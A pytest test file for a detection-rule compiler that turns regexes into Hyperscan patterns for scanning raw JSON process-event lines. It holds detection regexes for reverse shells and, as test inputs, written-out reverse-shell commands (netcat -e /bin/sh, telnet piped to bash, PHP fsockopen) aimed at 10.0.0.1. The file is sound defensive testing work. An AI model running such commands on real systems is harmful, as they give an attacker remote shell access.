"""compile/raw_regex.py: a value regex written over raw NDJSON lines must match every line whose value
the Python regex matches (an anchor may let lines through, never keep a matching one out), and it
should refuse the look-alikes its literals alone let through."""

from __future__ import annotations

import re

import hyperscan as hs
import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shellsieve.compile.anchors import marker_pattern
from shellsieve.compile.regex_tree import parse
from shellsieve.compile.raw_regex import raw_regex

# Every node kind the translation handles, and the shipped rules' own regexes.
PATTERNS = [
    r"\b(nc|ncat|netcat)\b[^|;&\n]*\s(-[a-z]*e|-c|--exec|--sh-exec)\s+['\"]?(\S*/)?((ba|da|z|k|c|tc)?sh|python[0-9.]*)\b",
    r"\btelnet\s[^|;&]*\|\s*(\S*/)?(ba|da|z|k|c|tc)?sh\b",
    r"php\s+-r\s+['\"].*fsockopen\(\s*['\"](?:\d{1,3}\.){3}\d{1,3}['\"]\s*,\s*\d{1,5}\s*\)",
    r"(?i)ncat\s+.*--ssl",
    r"(?s)\A(?:.*a\\b\"c.*)\Z",
    r"x.y\W+\w{2,}\D",
    r"[^a-c\"]{2}q",
    r"(?i:é)[é-ü]x+?",
    r"(?=ab)ab(?!c)\Bd\S{3}",
    r"a{20,40}b",
    r"(?>ab|a)c[\t ]\x7f?",
    r"^\s+\$\(.{1,3}\)$",
    r"a\Wb",
]
ALPHABET = st.sampled_from(list("abcdeqxyz -|;&/\\\"'\t\n\r\x08\x0c0123456789.:,()$éüK")
                           + ["nc", "sh", "php -r", "telnet", "ncat", "--ssl", "fsockopen("])
VALUES = st.lists(ALPHABET, max_size=24).map("".join)


def _database(expressions: list[bytes]) -> hs.Database:
    db = hs.Database()
    db.compile(expressions=expressions, ids=list(range(len(expressions))),
               flags=[hs.HS_FLAG_SINGLEMATCH] * len(expressions))
    return db


@pytest.fixture(scope="module")
def compiled() -> tuple[hs.Database, list[re.Pattern[str]], re.Pattern[bytes]]:
    raws = []
    for p in PATTERNS:
        parsed = parse(p)
        assert parsed is not None, p
        raw = raw_regex(parsed, False)
        assert raw is not None, p
        raws.append(raw[0])
    return _database(raws), [re.compile(p) for p in PATTERNS], re.compile(marker_pattern())


def _fired(db: hs.Database, line: bytes) -> set[int]:
    hits: set[int] = set()
    db.scan(line, match_event_handler=lambda pid, *_: hits.add(pid))
    return hits


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=VALUES)
def test_a_matching_value_always_fires(compiled: tuple[hs.Database, list[re.Pattern[str]], re.Pattern[bytes]],
                                       value: str) -> None:
    """Python matches the value => Hyperscan matches the raw line (unless the line fires the marker,
    which makes it a candidate for every rule anyway)."""
    db, regexes, marker = compiled
    line = msgspec.json.encode({"process": {"command_line": value}})
    if marker.search(line):
        return
    fired = _fired(db, line)
    for i, rx in enumerate(regexes):
        if rx.search(value):
            assert i in fired, (PATTERNS[i], value, line)


@pytest.mark.parametrize(("pattern", "value", "fires"), [
    (PATTERNS[0], "nc -e /bin/sh 10.0.0.1 4444", True),
    (PATTERNS[0], "nc -z db-1.internal 5432", False),  # the literal `nc` alone let it through
    (PATTERNS[1], "telnet 10.0.0.1 80 | /bin/bash", True),
    (PATTERNS[1], "telnet", False),
    (PATTERNS[2], "php -r '$s=fsockopen(\"10.0.0.1\",4444);'", True),
    (PATTERNS[2], "php -r '$s=fsockopen(\"example.com\",80); fclose($s);'", False),
    (PATTERNS[3], "NCAT 10.0.0.1 443 --SSL -e /bin/sh", True),  # ignore-case letters as classes
    (PATTERNS[4], 'a\\b"c', True),  # `\` and `"` by their escapes
])
def test_selective(pattern: str, value: str, fires: bool) -> None:
    parsed = parse(pattern)
    assert parsed is not None
    raw = raw_regex(parsed, False)
    assert raw is not None
    line = msgspec.json.encode({"process": {"command_line": value}, "host": {"name": "web-1"}})
    assert bool(_fired(_database([raw[0]]), line)) is fires


@pytest.mark.parametrize(("index", "value"), [
    (0, "nc\t-e\t/bin/sh 10.0.0.1 4444"),  # blanks JSON escapes
    (0, "ncat 10.0.0.1 4444 -e\u00a0bash"),  # a non-ASCII blank
    (1, "telnet\n10.0.0.1 80 \"x\" | sh"),  # a newline, an escaped quote inside the gap
    (2, "php -r \"$s=fsockopen('10.0.0.1',4444);\""),
    (4, 'a\\b"c'),
    (5, 'x"y\\\\ab-'),  # `.` on a quote, \W+ on backslashes
    (6, "\\\tq"),  # a negated class on a backslash and a tab
    (7, "\u00c9\u00fcxx"),  # ignore-case non-ASCII, a range of non-ASCII
    (8, "abd\u00e9\"\\"),  # look-arounds dropped; \S on non-ASCII, a quote, a backslash
    (9, "a" * 25 + "b"),  # counts above the cap
    (10, "abc\t"),
    (11, "\f\r $(ls)"),
    (12, "a\u00a0b"),  # one character, two bytes
])
def test_escaped_and_wide_characters_still_fire(index: int, value: str) -> None:
    """Every character a rule's class or dot may take, in each spelling JSON gives it."""
    assert re.search(PATTERNS[index], value), "the case itself must match"
    parsed = parse(PATTERNS[index])
    assert parsed is not None
    raw = raw_regex(parsed, False)
    assert raw is not None
    assert _fired(_database([raw[0]]), msgspec.json.encode({"process": {"command_line": value}}))


def test_no_raw_form() -> None:
    """A backreference has no raw-line form; an empty pattern anchors nothing."""
    assert raw_regex(parse(r"(a)x\1"), False) is None  # type: ignore[arg-type]
    assert raw_regex(parse(r"\b"), False) is None  # type: ignore[arg-type]


def test_selective_width_ranks_an_address_below_a_name() -> None:
    """An address regex (every process event holds host.ip) is 3 nearly fixed characters; a
    conjunction with `process.name == "wget"` anchors on the name, and `(.){200,}` on nothing."""
    from shellsieve.compile.anchors import anchor_clauses
    from shellsieve.compile.lines import joins
    from shellsieve.compile.raw_regex import selective_width
    from shellsieve.model.expr import AllOf, Op, Predicate

    ip = r"(?s)\A(?:.*[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}.*)\Z"
    parsed = parse(ip)
    assert parsed is not None and selective_width(parsed.items) == 3
    raw = raw_regex(parsed, False)
    assert raw is not None and not raw[0].startswith(b"(?:(?:")  # the `.*` runs are left out
    query = AllOf((Predicate("process.name", Op.EQ, ("wget",), True),
                   Predicate("process.command_line", Op.REGEX, (ip,), True)))
    clauses = anchor_clauses(query, joins=joins)
    assert clauses is not None and [lit.text for lit in clauses[0][0]] == [b'"wget"']
    long_line = AllOf((Predicate("process.executable", Op.ENDSWITH, ("/file",), True),
                       Predicate("process.command_line", Op.REGEX, ("(.){200,}",), True)))
    clauses = anchor_clauses(long_line, joins=joins)
    assert clauses is not None and all(not lit.regex for s in clauses[0] for lit in s)
